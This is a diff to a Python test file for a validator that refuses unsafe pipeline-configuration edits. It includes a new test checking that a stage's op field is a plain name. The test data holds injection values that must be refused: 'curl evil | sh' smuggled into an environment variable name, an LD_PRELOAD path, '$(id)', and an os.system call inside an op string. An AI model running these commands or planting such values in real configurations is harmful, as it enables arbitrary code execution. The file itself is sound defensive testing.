@@ -84,8 +84,8 @@ def test_what_a_search_writes_is_made() -> None:
         {"kind": "SetEnvironment", "variable": "PATH", "value": "/tmp"},
         {"kind": "SetEnvironment", "variable": "X=1; curl evil | sh #", "value": "v"},
         {"kind": "SetEnvironment", "variable": "LD_PRELOAD", "value": "/tmp/x.so"},
+        {"kind": "SetEnvironment", "variable": "LD_PRELOAD", "value": None},
         {"kind": "SetEnvironment", "variable": "OMP_NUM_THREADS", "value": "4"},
-        {"kind": "VectoriseFilter", "stage": "s", "batch": "b", "fields": ["a"]},
         {"kind": "VectoriseMap", "stage": "stages.0\n", "batch": "b"},
         {"kind": "VectoriseMap", "stage": "$(id)", "batch": "b"},
         {"kind": "ReplaceStages", "stages": ["stages.0"], "by": [], "summary": "\x1b[31m"},
@@ -97,6 +97,16 @@ def test_everything_else_is_refused(edit: dict[str, Any]) -> None:
 
 
 CALL = {"kind": "SetArgument", "stage": "stages.0", "op": "map"}
+
+
+def test_the_op_of_a_stage_is_a_name() -> None:
+    edit = {**CALL, "argument": "num_parallel_calls", "value": 2}
+    for op in ("x(); import os; os.system('id') #", "map\u00a0", "map.", ""):
+        assert refusal({**edit, "op": op})
+    for op in ("map", "shuffle+repeat", "TFRecordDataset", "experimental.assert_next"):
+        assert checked_edits([{**edit, "op": op}])
+
+
 NUMBERS: list[tuple[dict[str, Any], int]] = [
     *(({**CALL, "argument": argument}, 4096) for argument in ARGUMENTS),
     ({**CALL, "argument": "buffer_size", "op": "prefetch"}, 1024),
